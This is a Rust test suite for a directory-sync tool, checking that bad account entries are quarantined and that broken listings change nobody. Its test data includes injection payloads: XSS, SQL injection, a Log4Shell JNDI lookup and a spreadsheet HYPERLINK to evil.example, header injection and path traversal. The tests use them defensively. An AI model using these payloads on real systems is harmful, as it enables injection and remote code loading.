//! Entries that are broken or mean harm are kept out one by one; a listing that is broken changes nobody.

use serde_json::{Value as Json, json};

use super::stage::{Synced, configuration, sync};
use super::wire_server::{Fault, Handle, World, account, firm, serve};
use crate::harness::database::{Database, on_both_engines};
use crate::harness::program::Program;
use crate::harness::raw_server::RawServer;

on_both_engines!(
    bad_entries_are_kept_out_and_good_ones_applied,
    a_broken_listing_changes_nobody,
    an_account_without_a_readable_id_lets_nobody_be_missing,
    an_id_that_comes_twice_is_kept_out,
    a_role_that_administers_is_left_out,
    a_firm_that_calls_itself_the_agency_is_an_ordinary_one,
    who_cannot_be_asked_for_is_not_missing,
    beyond_a_thousand_nobody_is_missing_unasked,
);

const PAGE_SIZE: &str = "max_retries = 0\npage_size = 10";

/// A directory on the wire, and the program that reads it in pages of ten.
struct Wire {
    db: Database,
    world: Handle,
    program: Program,
    _server: RawServer,
}

impl Wire {
    async fn new(db: Database, accounts: Vec<Json>) -> Self {
        let (server, world) = serve(World {
            organizations: vec![firm("paving"), firm("bridges")],
            accounts,
            ..World::default()
        })
        .await;
        let config = configuration(&db.url, server.url().as_str(), "").replace("max_retries = 0", PAGE_SIZE);
        Self {
            db,
            world,
            program: Program::new(&config),
            _server: server,
        }
    }

    fn sync(&self, arguments: &[&str]) -> Synced {
        sync(&self.program, arguments)
    }

    async fn quarantine(&self) -> Vec<String> {
        self.db
            .query("SELECT external_id, code FROM quarantine ORDER BY external_id")
            .await
    }

    async fn users(&self) -> Vec<String> {
        let sql = "SELECT r.external_id, u.email, u.first_name, u.last_name, u.title, u.kind, u.status FROM users u \
            JOIN records r ON r.user_id = u.id ORDER BY u.email";
        self.db.query(sql).await
    }

    async fn active(&self) -> usize {
        self.db
            .query("SELECT email FROM users WHERE status = 'active'")
            .await
            .len()
    }
}

fn people(range: std::ops::RangeInclusive<usize>) -> Vec<Json> {
    range.map(|n| account(&format!("p{n:02}"), "paving")).collect()
}

/// What is done to the account of a number, and the code that it is kept out with; `None` where it is used.
fn harm() -> Vec<(&'static str, Json, Option<&'static str>)> {
    let big = "x".repeat(1 << 20);
    let many: Vec<String> = (0..10_000).map(|n| format!("role {n}")).collect();
    vec![
        ("first_name", json!("Line\nbreak"), Some("unsafe_text")),
        ("first_name", json!("NUL\u{0}"), Some("unsafe_text")),
        ("last_name", json!("\u{1b}[31mred"), Some("unsafe_text")),
        ("last_name", json!("\u{202e}gnp.exe"), Some("unsafe_text")),
        ("title", json!("left\u{2066}right"), Some("unsafe_text")),
        ("title", json!("two\u{2028}lines"), Some("unsafe_text")),
        ("title", json!(big), Some("too_large")),
        ("phone", json!("5".repeat(2_000)), Some("too_large")),
        ("roles", json!(many), Some("too_large")),
        ("roles", json!(["member", "bad\u{7}bell"]), Some("unsafe_text")),
        ("email", json!(null), Some("no_email")),
        ("email", json!("  "), Some("no_email")),
        ("email", json!("nobody"), Some("bad_email")),
        ("email", json!("a b@paving.example"), Some("bad_email")),
        ("email", json!("a@b@paving.example"), Some("bad_email")),
        ("email", json!("a@paving..example"), Some("bad_email")),
        ("email", json!("<a@paving.example>"), Some("bad_email")),
        ("email", json!("a@paving.example,b@paving.example"), Some("bad_email")),
        (
            "email",
            json!("a@paving.example\r\nBcc: b@paving.example"),
            Some("unsafe_text"),
        ),
        ("email", json!(["a@paving.example", {"b": 1}]), Some("unreadable")),
        ("status", json!("N"), Some("bad_status")),
        ("status", json!(0), Some("bad_status")),
        ("status", json!(""), Some("bad_status")),
        ("status", json!("false"), Some("bad_status")),
        ("status", json!(false), Some("bad_status")),
        ("status", json!("deleted"), Some("bad_status")),
        ("kind", json!("employee"), Some("employee_kind")),
        ("kind", json!("Employee "), Some("employee_kind")),
        ("kind", json!("a b"), Some("bad_value")),
        ("first_name", json!({"nested": {"deep": []}}), Some("unreadable")),
        ("organization_id", json!(["paving"]), Some("bad_value")),
        ("organization_id", json!("nowhere"), Some("not_confirmed")),
        ("organization_id", json!(""), Some("bad_value")),
        ("status", json!(null), None),
        ("status", json!("ACTIVE"), None),
        ("first_name", json!("<script>alert(1)</script>"), None),
        ("last_name", json!("O'Example \"); DROP TABLE users; --"), None),
        ("last_name", json!("=HYPERLINK(\"http://evil.example\")"), None),
        ("title", json!("{{7*7}} ${jndi:ldap://evil.example/x} %s %n"), None),
        ("title", json!("  many \t spaces  "), None),
        ("email", json!("Zo\u{eb}+tag@paving.example"), None),
        ("is_admin", json!(true), None),
    ]
}

/// The people of [`harm`], with what is done to them.
fn harmed() -> (Vec<Json>, Vec<String>) {
    let mut codes = Vec::new();
    let mut all = Vec::new();
    for (at, (key, value, code)) in harm().into_iter().enumerate() {
        let id = format!("p{:02}", at + 1);
        let mut one = account(&id, "paving");
        one[key] = value;
        all.push(one);
        codes.extend(code.map(|code| format!("{id}|{code}")));
    }
    (all, codes)
}

async fn bad_entries_are_kept_out_and_good_ones_applied(db: Database) {
    let wire = Wire::new(db, people(1..=50)).await;
    wire.sync(&[]).is(0, "applied");
    let before = wire.users().await;
    let (mut world, codes) = harmed();
    world.extend(people(world.len() + 1..=50));
    let odd = ["../../x", "other:17", "'; --", "%2e%2e", "x".repeat(512).as_str()].map(str::to_owned);
    world.extend(odd.iter().map(|id| {
        let mut one = account(id, "bridges");
        one["email"] = json!(format!("odd{}@bridges.example", id.len()));
        one
    }));
    wire.world.set(|w| w.accounts = world.clone());
    let synced = wire.sync(&[]);
    synced.is(3, "applied");
    assert_eq!(wire.quarantine().await, codes);
    assert_eq!(synced.plan("quarantine"), codes.len() as u64);
    assert_eq!(
        (synced.plan("create"), synced.plan("disable")),
        (5, 0),
        "an odd id is an id"
    );
    let listed: Vec<&str> = synced.document["quarantined"]
        .as_array()
        .expect("an array")
        .iter()
        .map(|one| one["detail"].as_str().expect("a sentence"))
        .collect();
    assert_eq!(listed.len(), codes.len());
    assert!(
        listed
            .iter()
            .all(|text| text.len() < 400 && !text.contains(char::is_control)),
        "{listed:#?}"
    );
    assert_eq!(wire.active().await, 55, "nobody is disabled for a bad entry");
    let after = wire.users().await;
    let changed: Vec<&String> = after
        .iter()
        .filter(|row| !before.contains(row) && !row.contains("|odd"))
        .collect();
    let good = [
        "|<script>alert(1)</script>|",
        "|O'Example \"); DROP TABLE users; --|",
        "|=HYPERLINK(\"http://evil.example\")|",
        "|{{7*7}} ${jndi:ldap://evil.example/x} %s %n|",
        "|many spaces|",
        "|Zo\u{eb}+tag@paving.example|",
    ];
    assert_eq!(changed.len(), good.len(), "{changed:#?}");
    assert!(
        good.iter().all(|text| changed.iter().any(|row| row.contains(text))),
        "{changed:#?}"
    );
    for id in &odd {
        wire.sync(&["--user", id]).is(0, "applied");
    }
    let ran = wire.program.run(&["sync"]);
    assert_eq!(ran.code, 3, "{ran:#?}");
    let unprintable = |c: char| (c.is_control() && c != '\n') || ('\u{202a}'..='\u{202e}').contains(&c);
    assert!(!ran.stdout.contains(unprintable), "{}", ran.stdout);
    // Cured, every one of them is gone from the quarantine.
    wire.world.set(|w| w.accounts = people(1..=50));
    let cured = wire.sync(&[]);
    cured.is(0, "applied");
    assert_eq!((wire.quarantine().await.len(), cured.plan("quarantine")), (0, 0));
}

async fn a_broken_listing_changes_nobody(db: Database) {
    let wire = Wire::new(db, people(1..=25)).await;
    wire.sync(&[]).is(0, "applied");
    let before = wire.users().await;
    let faults = [
        (Fault::WrongTotal, "incomplete"),
        (Fault::Truncated, "failed"),
        (Fault::Status(503), "failed"),
        (Fault::Status(500), "failed"),
        (Fault::Status(401), "failed"),
        (Fault::Repeats, "incomplete"),
        (Fault::NeverEnds, "incomplete"),
        (Fault::Body("[]"), "failed"),
        (Fault::Body("{}"), "failed"),
        (Fault::Body("null"), "failed"),
        (Fault::Body("<html>Sign in</html>"), "failed"),
        (Fault::Body(r#"{"items": null, "next": null}"#), "failed"),
    ];
    for (fault, state) in faults {
        wire.world.set(|w| {
            w.accounts = people(5..=25);
            w.accounts[0]["first_name"] = json!("Jordan");
            w.fault = fault.clone();
        });
        for scope in [&[] as &[&str], &["--organization", "paving"]] {
            let broken = wire.sync(scope);
            assert_eq!(broken.code, 4, "{fault:?} {scope:?}: {:#}", broken.document);
            let said = broken.document["state"].as_str().expect("a state");
            assert!(
                said == state || ["incomplete", "failed"].contains(&said),
                "{fault:?}: {said}"
            );
            assert!(
                broken.error().len() > 30 && broken.document["listing"]["complete"] == false,
                "{fault:?}"
            );
            let planned = wire.sync(&[scope, &["--dry-run"]].concat());
            assert_eq!(planned.code, 4, "{fault:?}: a look fails as the run does");
        }
        assert_eq!(wire.users().await, before, "{fault:?}");
        let shown = wire.program.run(&["sync"]);
        assert_eq!(
            (shown.code, shown.stdout.contains("nobody was disabled")),
            (4, true),
            "{shown:#?}"
        );
    }
    wire.world.set(|w| w.fault = Fault::None);
    let mended = wire.sync(&[]);
    mended.is(0, "applied");
    assert_eq!(mended.counts(), [0, 1, 4, 0]);
}

async fn an_account_without_a_readable_id_lets_nobody_be_missing(db: Database) {
    let wire = Wire::new(db, people(1..=20)).await;
    wire.sync(&[]).is(0, "applied");
    for id in [
        json!(null),
        json!(""),
        json!("a\u{0}b"),
        json!("x".repeat(10_000)),
        json!({"a": 1}),
    ] {
        wire.world.set(|w| {
            w.accounts = people(3..=20);
            w.accounts.push(account("p99", "paving"));
            w.accounts[18]["id"] = id.clone();
        });
        let synced = wire.sync(&[]);
        assert_eq!(synced.code, 3, "{id}: {:#}", synced.document);
        assert_eq!(synced.plan("disable"), 0, "{id}: it may be one of the missing");
        let said = synced.document["listing"].to_string();
        assert!(said.contains("readable id"), "{id}: it says why: {said}");
        assert!(wire.active().await >= 20, "{id}");
    }
    wire.world.set(|w| w.accounts.truncate(18));
    assert_eq!(wire.sync(&[]).counts(), [0, 0, 2, 0]);
}

async fn an_id_that_comes_twice_is_kept_out(db: Database) {
    let wire = Wire::new(db, people(1..=20)).await;
    wire.sync(&[]).is(0, "applied");
    let before = wire.users().await;
    let mut twice = account("p01", "paving");
    twice["first_name"] = json!("Jordan");
    for at in [0, 1, 20] {
        wire.world.set(|w| {
            w.accounts = people(1..=20);
            w.accounts.insert(at, twice.clone());
        });
        let synced = wire.sync(&[]);
        assert!([3, 4].contains(&synced.code), "{:#}", synced.document);
        assert_eq!(wire.users().await, before, "at {at}: never first come, first served");
    }
}

async fn a_role_that_administers_is_left_out(db: Database) {
    let wire = Wire::new(db, people(1..=3)).await;
    wire.world.set(|w| {
        w.accounts[0]["roles"] = json!(["Admin"]);
        w.accounts[1]["roles"] = json!(["member", "ADMIN", " admin "]);
        w.accounts[2]["roles"] = json!([]);
    });
    let synced = wire.sync(&[]);
    synced.is(0, "applied");
    assert_eq!(synced.document["refused_roles"], 2);
    let roles = "SELECT r.external_id, g.name FROM memberships m JOIN groups g ON g.id = m.group_id \
        JOIN records r ON r.user_id = m.user_id ORDER BY r.external_id, g.name";
    assert_eq!(
        wire.db.query(roles).await,
        ["p01|authenticated user", "p02|member", "p03|authenticated user"]
    );
    let shown = wire.program.ok(&["sync", "--dry-run"]);
    assert!(
        shown.contains("administrative role"),
        "who was refused is said, each time: {shown}"
    );
}

/// `self` is the agency's own organization, whom no sync touches: a firm that had it could never be synced again.
async fn a_firm_that_calls_itself_the_agency_is_an_ordinary_one(db: Database) {
    let wire = Wire::new(db, people(1..=3)).await;
    let kinds = "SELECT external_id, kind FROM organizations WHERE external_id IS NOT NULL ORDER BY external_id";
    for said in ["self", " SELF", "employee"] {
        wire.world.set(|w| w.organizations[1]["kind"] = json!(said));
        wire.sync(&[]).is(0, "applied");
        let kept = wire.db.query(kinds).await;
        let kind = kept[0].trim_start_matches("bridges|");
        assert!(!["self", "employee"].contains(&kind), "{said}: {kept:?}");
    }
}

/// A firm's listing lacks two of its people: each is asked for by its id, and what the answer does not say is open.
async fn who_cannot_be_asked_for_is_not_missing(db: Database) {
    let wire = Wire::new(db, people(1..=20)).await;
    wire.sync(&[]).is(0, "applied");
    wire.world.set(|w| {
        w.accounts = people(3..=20);
        w.fault = Fault::LookUps(503);
    });
    let unsure = wire.sync(&["--organization", "paving"]);
    unsure.is(3, "applied");
    assert_eq!(unsure.counts(), [0; 4]);
    assert_eq!(wire.quarantine().await, ["p01|not_confirmed", "p02|not_confirmed"]);
    // One of them is with another firm now, and cannot be read: it is there, all the same.
    wire.world.set(|w| {
        w.fault = Fault::None;
        w.accounts.push(account("p01", "bridges"));
        w.accounts[18]["first_name"] = json!({"nested": {}});
    });
    let one = wire.sync(&["--organization", "paving"]);
    one.is(3, "applied");
    assert_eq!(one.counts(), [0, 0, 1, 0]);
    let left = wire.users().await;
    let standing = |id: &str| left.iter().any(|row| row.starts_with(id) && row.ends_with("|active"));
    assert_eq!((standing("p01"), standing("p02")), (true, false), "{left:#?}");
}

async fn beyond_a_thousand_nobody_is_missing_unasked(db: Database) {
    let many = |range: std::ops::RangeInclusive<usize>| -> Vec<Json> {
        range.map(|n| account(&format!("m{n:04}"), "paving")).collect()
    };
    let wire = Wire::new(db, many(1..=1_004)).await;
    wire.sync(&[]).is(0, "applied");
    wire.world.set(|w| w.accounts = many(1..=1));
    let planned = wire.sync(&["--organization", "paving", "--dry-run"]);
    planned.is(0, "planned");
    assert_eq!((planned.plan("disable"), planned.plan("quarantine")), (1_000, 3));
}
